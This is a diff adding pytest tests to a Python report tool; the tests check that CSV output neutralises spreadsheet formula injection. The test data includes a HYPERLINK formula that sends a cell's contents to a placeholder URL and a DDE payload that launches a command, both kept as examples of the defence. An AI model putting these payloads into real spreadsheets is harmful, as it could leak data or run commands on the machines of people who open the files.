@@ -125,6 +125,30 @@ def test_batch_writes_one_row_per_file_and_survives_bad_files(capsys, tmp_path):
     assert "5 files: 3 read, 2 unreadable" in out
 
 
+def test_batch_csv_cells_cannot_run_as_formulas(capsys, tmp_path):
+    """A file named like a formula (its name is a cell of the CSV) is written as text."""
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    (folder / "=HYPERLINK(1).txt").write_text("会议纪要", encoding="utf-8")
+    out_csv = tmp_path / "out.csv"
+    run(capsys, "batch", folder, "--csv", out_csv, "--no-progress", "--jobs", "1")
+    with out_csv.open(encoding="utf-8-sig") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in row.values())
+
+
+def test_safe_cell_quotes_formulas_and_keeps_numbers():
+    from gongkai.annualreport.spreadsheet import safe_cell
+
+    assert safe_cell('=HYPERLINK("http://x/?"&A1,"点击")') == '\'=HYPERLINK("http://x/?"&A1,"点击")'
+    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell("＝1+1") == "'＝1+1"
+    assert safe_cell("\t=1") == "'\t=1"
+    assert safe_cell("-5") == "-5" and safe_cell("+3.5") == "+3.5" and safe_cell(7) == 7
+    assert safe_cell("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
+    assert safe_cell("关于=的通知") == "关于=的通知"
+
+
 def test_batch_and_check_read_every_form_by_content_not_by_name(capsys, tmp_path):
     from . import textforms
 
